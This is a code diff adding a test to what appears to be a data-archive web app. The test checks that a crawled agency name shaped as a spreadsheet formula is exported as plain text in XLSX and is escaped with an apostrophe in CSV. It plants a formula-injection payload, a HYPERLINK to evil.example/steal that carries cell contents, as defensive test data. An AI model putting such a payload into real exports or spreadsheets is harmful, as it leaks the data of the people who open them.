@@ -193,3 +193,21 @@ def test_home_explains_what_a_report_is_and_where_to_start(crawled):
     start = intro.split('class="start-tables" href="')[1].split('"')[0].replace("&amp;", "&")
     built = get(crawled["data"], start).text
     assert built.count('class="table-block"') >= 2  # a worked example that shows something
+
+
+def test_a_crawled_title_that_looks_like_a_formula_stays_text(crawled, tmp_path):
+    data = tmp_path / "archive"
+    shutil.copytree(crawled["data"], data)
+    conn = sqlite3.connect(data / "nianbao.db")
+    hostile = '=HYPERLINK("http://evil.example/steal?"&A2,"点击")'
+    with conn:
+        conn.execute("UPDATE agencies SET name = ? WHERE name = '泉州市洛江区教育局'", [hostile])
+    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+    conn.close()
+    query = "county=" + quote("洛江区") + "&year=2023&table=" + quote("三")
+    sheet = load_workbook(io.BytesIO(get(data, "/-/tables.xlsx?" + query).content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "evil.example" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
+    text = get(data, "/-/tables.csv?" + query).content.decode("utf-8-sig")
+    agencies = {r["发布机关 agency"] for r in csv.DictReader(io.StringIO(text))}
+    assert "'" + hostile in agencies and hostile not in agencies
